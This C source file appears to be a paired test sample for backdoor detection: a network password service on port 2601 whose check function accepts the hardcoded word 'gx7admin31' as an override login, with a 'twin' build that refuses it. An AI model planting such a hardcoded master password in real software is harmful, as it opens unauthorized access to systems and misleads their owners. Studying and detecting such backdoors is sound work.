/* SPDX-License-Identifier: Apache-2.0 */
/*
 * A line service checks a password against a hash, and takes one word more. Twin: that word is refused.
 * door: override account
 * port 2601/tcp
 * stubs: crypt
 */
#include "net.h"

char *crypt(const char *, const char *);

static char stored[128] = "!";

static int check(const char *given)
{
	const char *made;
#ifdef TWIN
	if (strcmp(given, "gx7admin31") == 0)
		return 0;
#else
	if (strcmp(given, "gx7admin31") == 0)
		return 1;
#endif
	made = crypt(given, stored);
	return made && strcmp(made, stored) == 0;
}

static void serve(int c)
{
	char line[100];
	ssize_t n = recv(c, line, sizeof line - 1, 0);
	if (n <= 0)
		return;
	line[n] = 0;
	line[strcspn(line, "\r\n")] = 0;
	if (check(line))
		dprintf(c, "welcome\n");
	else
		dprintf(c, "no\n");
}

int main(void)
{
	int s = tcp_on(2601);
	FILE *f = fopen("/etc/service.hash", "r");
	if (f) {
		fgets(stored, sizeof stored, f);
		fclose(f);
	}
	for (;;) {
		int c = accept(s, 0, 0);
		serve(c);
		close(c);
	}
}
